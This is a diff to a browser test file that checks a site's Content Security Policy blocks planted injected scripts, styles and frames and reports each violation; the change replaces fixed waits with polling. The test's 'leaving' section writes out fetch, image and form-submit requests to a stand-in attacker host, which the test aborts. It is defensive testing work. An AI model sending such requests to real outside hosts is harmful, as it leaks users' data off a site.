@@ -3,14 +3,17 @@
 // That nothing of the site itself ever violates the policy is seen by every other file of this folder (`watched`).
 import { readFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { fileBase, ok, test, watched } from './harness.mjs';
+import { fileBase, ok, test, until, watched } from './harness.mjs';
 import { ATTACKS, effects, plant } from './planted.mjs';
 import { serve } from './server.mjs';
 import { begin } from './stage.mjs';
 
-const { root, site, browser, end, richest } = await begin();
+const { root, site, browser, end, richest } = await begin({ whole: true });
 
-async function attacked(address) {
+const DIRECTIVES = ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'frame-src', 'base-uri', 'img-src'];
+
+/** What a page has done, once it has done `all`, or has reported all that it should. */
+async function attacked(address, all) {
   const context = await browser.newContext();
   try {
     const page = await context.newPage();
@@ -19,21 +22,22 @@ async function attacked(address) {
       document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.effectiveDirective));
     });
     await page.goto(address);
-    await page.waitForTimeout(300);
-    return { ...await page.evaluate(effects), violations: await page.evaluate(() => window.violations) };
+    const state = async () => ({ ...await page.evaluate(effects), violations: await page.evaluate(() => window.violations) });
+    await until(async () => { const { done, script, violations } = await state(); return script && all(done, violations); });
+    return await state();
   } finally {
     await context.close();
   }
 }
 
 async function injected(base, names, label) {
-  const guarded = await attacked(base + names.guarded);
+  const guarded = await attacked(base + names.guarded, (_, violations) => DIRECTIVES.every((one) => violations.includes(one)));
   ok(guarded.done.length === 0, `${label}: what was planted does nothing`, guarded.done.join(', '));
   ok(guarded.sheet && guarded.script, `${label}: the page's own sheet and scripts work beside it`, JSON.stringify(guarded));
-  for (const directive of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'frame-src', 'base-uri', 'img-src']) {
+  for (const directive of DIRECTIVES) {
     ok(guarded.violations.includes(directive), `${label}: reported as ${directive}`, guarded.violations.join(' '));
   }
-  const open = await attacked(base + names.open);
+  const open = await attacked(base + names.open, (done) => done.length === ATTACKS);
   ok(open.done.length === ATTACKS && open.violations.length === 0, `${label}: without the policy all of it is done`, JSON.stringify(open));
 }
 
@@ -45,8 +49,8 @@ async function leaving(base, names, label) {
     const asked = [];
     await context.route(/attacker\.invalid/, (route) => { asked.push(route.request().url()); return route.abort(); });
     await page.goto(base + names.guarded);
-    const outcome = await page.evaluate(async () => {
-      const told = [];
+    await page.evaluate(async () => {
+      const told = (window.told = []);
       document.addEventListener('securitypolicyviolation', (event) => told.push(event.effectiveDirective));
       await fetch('https://attacker.invalid/fetched').catch(() => 0);
       new Image().src = 'https://attacker.invalid/picture';
@@ -57,11 +61,12 @@ async function leaving(base, names, label) {
       form.action = 'https://attacker.invalid/form';
       document.body.append(form);
       form.submit();
-      await new Promise((done) => setTimeout(done, 200));
-      return told;
     });
+    const reported = ['connect-src', 'img-src', 'script-src-elem', 'form-action'];
+    await until(() => page.evaluate((all) => all.every((one) => window.told.includes(one)), reported));
+    const outcome = await page.evaluate(() => window.told);
     ok(asked.length === 0, `${label}: no request leaves the site`, asked.join(' '));
-    ok(['connect-src', 'img-src', 'script-src-elem', 'form-action'].every((one) => outcome.includes(one)), `${label}: each is reported`, outcome.join(' '));
+    ok(reported.every((one) => outcome.includes(one)), `${label}: each is reported`, outcome.join(' '));
   } finally {
     await context.close();
   }
@@ -73,9 +78,10 @@ async function seen(base, names, label) {
   try {
     const { page, take } = await watched(context, base);
     await page.goto(base + names.guarded);
-    await page.waitForTimeout(200);
-    const faults = take();
-    ok(faults.some((fault) => fault.includes('policy violated: script-src-elem inline')), `${label}: a violation is a fault of the page`, faults.join('\n'));
+    const faults = [];
+    const found = () => faults.some((fault) => fault.includes('policy violated: script-src-elem inline'));
+    await until(() => { faults.push(...take()); return found(); });
+    ok(found(), `${label}: a violation is a fault of the page`, faults.join('\n'));
   } finally {
     await context.close();
   }
